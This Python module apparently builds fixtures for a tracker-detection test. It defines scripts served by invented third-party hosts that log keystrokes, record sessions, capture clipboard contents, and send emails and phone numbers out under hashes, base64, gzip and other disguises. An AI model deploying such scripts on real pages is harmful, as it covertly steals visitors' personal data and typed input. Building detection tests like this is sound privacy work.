"""The scripts of the invented third parties, as their hosts serve them."""

from __future__ import annotations

from registry import AB, LEADS, METRICS, PX, REPLAY, RT, SYNC, VIDEO, WWW

HASHES = r"""
function u8(s){return new TextEncoder().encode(s)}
function hx(a){return Array.from(a,function(b){return b.toString(16).padStart(2,'0')}).join('')}
function md5(s){var b=u8(s),n=b.length,l=((n+8>>6)+1)*64,m=new Uint8Array(l),v=new DataView(m.buffer),K=[],i,j;m.set(b);m[n]=128;v.setUint32(l-8,n*8,true);
var r=[7,12,17,22,5,9,14,20,4,11,16,23,6,10,15,21];for(i=0;i<64;i++)K[i]=Math.floor(Math.abs(Math.sin(i+1))*4294967296)>>>0;
var a0=0x67452301,b0=0xefcdab89,c0=0x98badcfe,d0=0x10325476;for(j=0;j<l;j+=64){var A=a0,B=b0,C=c0,D=d0;for(i=0;i<64;i++){var f,g;
if(i<16){f=(B&C)|(~B&D);g=i}else if(i<32){f=(D&B)|(~D&C);g=(5*i+1)%16}else if(i<48){f=B^C^D;g=(3*i+5)%16}else{f=C^(B|~D);g=7*i%16}
f=(f+A+K[i]+v.getUint32(j+g*4,true))>>>0;A=D;D=C;C=B;var q=r[(i>>4)*4+i%4];B=(B+((f<<q)|(f>>>(32-q))))>>>0}
a0=(a0+A)>>>0;b0=(b0+B)>>>0;c0=(c0+C)>>>0;d0=(d0+D)>>>0}var o=new Uint8Array(16),w=new DataView(o.buffer);[a0,b0,c0,d0].forEach(function(x,k){w.setUint32(k*4,x,true)});return hx(o)}
function sha1(s){var b=u8(s),n=b.length,l=((n+8>>6)+1)*64,m=new Uint8Array(l),v=new DataView(m.buffer),i,j;m.set(b);m[n]=128;v.setUint32(l-4,n*8);
var h=[0x67452301,0xefcdab89,0x98badcfe,0x10325476,0xc3d2e1f0],w=[];function R(x,c){return(x<<c)|(x>>>(32-c))}
for(j=0;j<l;j+=64){for(i=0;i<80;i++)w[i]=i<16?v.getUint32(j+i*4):R(w[i-3]^w[i-8]^w[i-14]^w[i-16],1);var a=h[0],B=h[1],c=h[2],d=h[3],e=h[4];
for(i=0;i<80;i++){var f=i<20?(B&c)|(~B&d):i<40?B^c^d:i<60?(B&c)|(B&d)|(c&d):B^c^d,k=[0x5a827999,0x6ed9eba1,0x8f1bbcdc,0xca62c1d6][i/20|0];
var t=(R(a,5)+f+e+k+w[i])|0;e=d;d=c;c=R(B,30);B=a;a=t}h[0]=(h[0]+a)|0;h[1]=(h[1]+B)|0;h[2]=(h[2]+c)|0;h[3]=(h[3]+d)|0;h[4]=(h[4]+e)|0}
return h.map(function(x){return(x>>>0).toString(16).padStart(8,'0')}).join('')}
function primes(n){var p=[],i=2;while(p.length<n){if(p.every(function(q){return i%q}))p.push(i);i++}return p}
function root(p,k,bits){var t=BigInt(p)<<BigInt(bits*k),lo=0n,hi=1n<<BigInt(bits+9),K=BigInt(k);while(hi-lo>1n){var m=(lo+hi)>>1n;if(m**K<=t)lo=m;else hi=m}return lo&((1n<<BigInt(bits))-1n)}
function sha2(s,W,rounds,S){var M=(1n<<BigInt(W))-1n,b=u8(s),n=b.length,B=W*2,l=Math.ceil((n+1+W/4)/B)*B,m=new Uint8Array(l);m.set(b);m[n]=128;new DataView(m.buffer).setUint32(l-4,n*8);
var p=primes(rounds),K=p.map(function(x){return root(x,3,W)}),H=p.slice(0,8).map(function(x){return root(x,2,W)});
function R(x,c){c=BigInt(c);return((x>>c)|(x<<(BigInt(W)-c)))&M}
for(var j=0;j<l;j+=B){var w=[],i;for(i=0;i<rounds;i++){if(i<16){var x=0n;for(var k=0;k<W/8;k++)x=(x<<8n)|BigInt(m[j+i*W/8+k]);w[i]=x}
else w[i]=(w[i-16]+(R(w[i-15],S[0])^R(w[i-15],S[1])^(w[i-15]>>BigInt(S[2])))+w[i-7]+(R(w[i-2],S[3])^R(w[i-2],S[4])^(w[i-2]>>BigInt(S[5]))))&M}
var v=H.slice();for(i=0;i<rounds;i++){var t1=(v[7]+(R(v[4],S[9])^R(v[4],S[10])^R(v[4],S[11]))+((v[4]&v[5])^(~v[4]&M&v[6]))+K[i]+w[i])&M,
t2=((R(v[0],S[6])^R(v[0],S[7])^R(v[0],S[8]))+((v[0]&v[1])^(v[0]&v[2])^(v[1]&v[2])))&M;v=[(t1+t2)&M,v[0],v[1],v[2],(v[3]+t1)&M,v[4],v[5],v[6]]}
H=H.map(function(h,i){return(h+v[i])&M})}return H.map(function(h){return h.toString(16).padStart(W/4,'0')}).join('')}
function sha256(s){return sha2(s,32,64,[7,18,3,17,19,10,2,13,22,6,11,25])}
function sha512(s){return sha2(s,64,80,[1,8,7,19,61,6,28,34,39,14,18,41])}
function sha3(s){var M=(1n<<64n)-1n,b=u8(s),r=136,l=Math.floor(b.length/r+1)*r,m=new Uint8Array(l),S=[],x,y;m.set(b);m[b.length]^=6;m[l-1]^=128;for(x=0;x<25;x++)S[x]=0n;
function R(v,c){c=BigInt(c%64);return((v<<c)|(v>>(64n-c)))&M}
function F(){var q=1;for(var n=0;n<24;n++){var C=[],D;for(x=0;x<5;x++)C[x]=S[x]^S[x+5]^S[x+10]^S[x+15]^S[x+20];for(x=0;x<5;x++){D=C[(x+4)%5]^R(C[(x+1)%5],1);for(y=0;y<25;y+=5)S[x+y]^=D}
var a=1,c=0,t=S[1];for(var k=0;k<24;k++){var z=c;c=(2*a+3*c)%5;a=z;var i=a+5*c,u=S[i];S[i]=R(t,(k+1)*(k+2)/2);t=u}
for(y=0;y<25;y+=5){var T=S.slice(y,y+5);for(x=0;x<5;x++)S[y+x]=T[x]^((~T[(x+1)%5]&M)&T[(x+2)%5])}
for(k=0;k<7;k++){q=((q<<1)^((q>>7)*0x71))%256;if(q&2)S[0]^=1n<<((1n<<BigInt(k))-1n)}}}
for(var j=0;j<l;j+=r){for(var i=0;i<r;i+=8){var v=0n;for(var k=7;k>=0;k--)v=(v<<8n)|BigInt(m[j+i+k]);S[i/8]^=v}F()}
var o='';for(i=0;i<4;i++)for(k=0;k<8;k++)o+=Number((S[i]>>BigInt(8*k))&255n).toString(16).padStart(2,'0');return o}
"""

NORMAL = "function nz(v){return String(v).trim().toLowerCase()}\n"

SCRIPTS: dict[tuple[str, str], str] = {}


def script(base: str, path: str, code: str) -> str:
    """Serve `code` at `base + path`; give the address back."""
    SCRIPTS[base.removeprefix("http://"), path] = code
    return base + path


TAG = script(
    PX,
    "/en_US/tag.js",
    f"""(function(w,d){{var n=new Image(1,1);
n.src='{PX}/tr/?id=318800144&ev=PageView&dl='+encodeURIComponent(d.location.href)+'&dt='+encodeURIComponent(d.title)+'&rl='+encodeURIComponent(d.referrer)+'&if=false&ts='+Date.now()+'&sw='+screen.width+'&sh='+screen.height;
}})(window,document);""",
)

# A container as tag managers ship them: it says nothing until its loader asks it to.
CONTAINER = script(
    PX,
    "/gtag/loader.js",
    f"""(function(){{var s=document.createElement('script');s.src='{PX}/en_US/tag.js';s.async=true;(document.head||document.body).appendChild(s)}})();""",
)

MATCH = script(
    PX,
    "/sdk/am.js",
    "(function(){"
    + HASHES
    + NORMAL
    + f"""
function send(v){{var h=sha256(nz(v));new Image().src='{PX}/tr/?id=318800144&ev=Microdata&udff%5Bem%5D='+h+'&ts='+Date.now()}}
document.addEventListener('focusout',function(e){{var t=e.target;if(t&&t.value&&/mail/i.test(t.name+t.type))send(t.value)}},true);
}})();""",
)

CALLBACK = script(
    PX,
    "/sdk/lead.js",
    "(function(){"
    + HASHES
    + NORMAL
    + f"""
document.addEventListener('change',function(e){{var t=e.target,v=t&&t.value&&nz(t.value);if(!v)return;
if(t.name==='email'){{
new Image().src='{PX}/collect?v=2&uid='+md5(v);
fetch('{LEADS}/v1/identify',{{method:'POST',mode:'no-cors',headers:{{'Content-Type':'text/plain'}},body:JSON.stringify({{type:'identify',traits:{{em:[sha1(v)]}}}})}});
var f=new URLSearchParams();f.set('e','lead');f.set('hem',sha512(v).toUpperCase());navigator.sendBeacon('{SYNC}/idm',f);
fetch('{AB}/api/profile',{{headers:{{'X-Visitor':sha3(v)}}}}).catch(function(){{}});
}}}},true);}})();""",
)

KEYLOG = script(
    REPLAY,
    "/s/kl.js",
    f"""(function(){{var q=[],t=0;
document.addEventListener('keydown',function(e){{q.push({{k:e.key,n:e.target.name||'',t:Math.round(performance.now())}});
clearTimeout(t);t=setTimeout(flush,400)}},true);
function flush(){{var b=q;q=[];fetch('{REPLAY}/i/k',{{method:'POST',headers:{{'Content-Type':'application/json'}},body:JSON.stringify({{s:'mb-quote',ev:b}})}}).catch(function(){{}})}}
}})();""",
)

RRWEB = script(
    REPLAY,
    "/s/rec.min.js",
    f"""(function(){{
var ev=[],id=Math.random().toString(36).slice(2);
function ser(n){{if(n.nodeType===3)return n.nodeValue;if(n.nodeType!==1)return null;return{{t:n.tagName,a:Array.from(n.attributes||[],function(a){{return[a.name,a.value]}}),c:Array.from(n.childNodes,ser)}}}}
ev.push({{type:2,data:ser(document.documentElement)}});
new MutationObserver(function(l){{ev.push({{type:3,n:l.length,h:l.map(function(m){{return m.target.nodeName}})}})}}).observe(document,{{subtree:true,childList:true,attributes:true,characterData:true}});
['mousemove','click','scroll','input'].forEach(function(k){{document.addEventListener(k,function(e){{ev.push({{type:3,k:k,x:e.clientX,y:e.clientY,v:e.target&&e.target.value,ts:Date.now()}})}},{{capture:true,passive:true}})}});
setInterval(function(){{if(!ev.length)return;var b=ev;ev=[];fetch('{REPLAY}/rec/'+id,{{method:'POST',keepalive:false,headers:{{'Content-Type':'text/plain'}},body:btoa(unescape(encodeURIComponent(JSON.stringify(b))))}}).catch(function(){{}})}},900);
}})();""",
)

SUGGEST = script(
    METRICS,
    "/js/suggest.js",
    f"""(function(){{document.addEventListener('input',function(e){{if(e.target.name!=='q')return;
navigator.sendBeacon('{METRICS}/ss/b',new Blob([JSON.stringify({{q:e.target.value,pg:location.pathname}})],{{type:'text/plain'}}))}},true)}})();""",
)

FEEDBACK = script(
    LEADS,
    "/w/capture.js",
    "(function(){"
    f"""
function z(s){{return new Response(new Blob([s]).stream().pipeThrough(new CompressionStream('gzip'))).arrayBuffer()}}
document.addEventListener('change',function(e){{var t=e.target,v=t&&t.value;if(!v||t.type==='checkbox')return;
if(t.name==='email'){{var p=v.split('@');new Image().src='{LEADS}/p.gif?u='+encodeURIComponent(p[0])+'&n=7&d='+encodeURIComponent(p[1]||'');
var inner=btoa(JSON.stringify({{em:v}}));var outer=btoa(JSON.stringify({{v:3,data:inner}})).replace(/\\+/g,'-').replace(/\\//g,'_').replace(/=+$/,'');new Image().src='{LEADS}/c?d='+outer;
new Image().src='{LEADS}/r/'+encodeURIComponent(v.split('').reverse().join(''))+'.gif';
new Image().src='{LEADS}/go?u='+encodeURIComponent(encodeURIComponent('http://www.millbrook.example/feedback/?contact='+encodeURIComponent(v)))}}
else z(JSON.stringify({{f:t.name,v:v}})).then(function(b){{fetch('{LEADS}/v2/batch',{{method:'POST',mode:'no-cors',body:b}})}});
}},true)}})();""",
)

REFILL = script(
    LEADS,
    "/w/refill.js",
    f"""(function(){{document.addEventListener('change',function(e){{var t=e.target,v=t&&t.value;if(!v)return;
if(t.name==='email'){{var fd=new FormData();fd.append('file',new Blob([new TextEncoder().encode(v)],{{type:'application/octet-stream'}}),'f.bin');fd.append('k','1');
fetch('{LEADS}/up',{{method:'POST',mode:'no-cors',body:fd}})}}
if(t.name==='telephone'){{var x=new XMLHttpRequest();x.open('PUT','{LEADS}/contacts/mb');x.setRequestHeader('Content-Type','application/json');x.send(JSON.stringify({{phone:v.replace(/\\D/g,'')}}))}}
}},true)}})();""",
)

CLIP = script(
    REPLAY,
    "/s/cb.js",
    f"""(function(){{
document.addEventListener('paste',function(e){{var s=(e.clipboardData||window.clipboardData).getData('text');fetch('{REPLAY}/i/paste',{{method:'POST',mode:'no-cors',body:s}})}},true);
document.addEventListener('copy',function(){{new Image().src='{REPLAY}/i/copy.gif?t='+encodeURIComponent(String(getSelection()).slice(0,200))}},true);
}})();""",
)

FRAME_LISTENER = f"""<!doctype html><title>w</title><script>
window.addEventListener('message',function(e){{new Image().src='{SYNC}/pm.gif?m='+encodeURIComponent(JSON.stringify(e.data))}});
if(location.hash)fetch('{SYNC}/h',{{method:'POST',mode:'no-cors',body:location.hash.slice(1)}});
</script>"""

FRAMES: dict[tuple[str, str], str] = {
    ("sync.idgraph.example", "/frame.html"): FRAME_LISTENER,
    ("sync.idgraph.example", "/hash.html"): FRAME_LISTENER,
    (
        "forms.leadgen.example",
        "/outer.html",
    ): f'<!doctype html><title>o</title><iframe src="{SYNC}/inner.html?p=refill" width=1 height=1></iframe>',
    (
        "sync.idgraph.example",
        "/inner.html",
    ): f"<!doctype html><title>i</title><script>new Image().src='{PX}/nest.gif?top='+encodeURIComponent((location.ancestorOrigins||[]).length?location.ancestorOrigins[location.ancestorOrigins.length-1]:document.referrer)+'&x=refill'</script>",
    ("video.tube.example", "/embed/flu"): "<!doctype html><title>Video</title><p>Tube Video player</p>",
    ("video.tube.example", "/embed/asthma"): "<!doctype html><title>Video</title><p>Tube Video player</p>",
    ("video.tube.example", "/embed/heart"): "<!doctype html><title>Video</title><p>Tube Video player</p>",
    ("video.tube.example", "/embed/steps"): "<!doctype html><title>Video</title><p>Tube Video player</p>",
    ("video.tube.example", "/embed/diet"): "<!doctype html><title>Video</title><p>Tube Video player</p>",
    ("social.hubbub.example", "/plugins/like.html"): "<!doctype html><title>Like</title><button>Like</button>",
}

SOCIAL_SDK = script(
    "http://social.hubbub.example",
    "/sdk/all.js",
    """(function(){document.querySelectorAll('.hub-like').forEach(function(n){var f=document.createElement('iframe');f.width=90;f.height=24;
f.src='http://social.hubbub.example/plugins/like.html?href='+encodeURIComponent(location.href);n.appendChild(f)})})();""",
)

AB_MODULE = script(
    AB,
    "/m/experiments.mjs",
    f"export const on=()=>fetch('{AB}/e?p='+encodeURIComponent(location.pathname),{{mode:'no-cors'}});on();",
)
PRELOADED = script(AB, "/m/preload.mjs", "export default 1;")

WS_URL = f"ws://{RT}/ws"
assert VIDEO and WWW
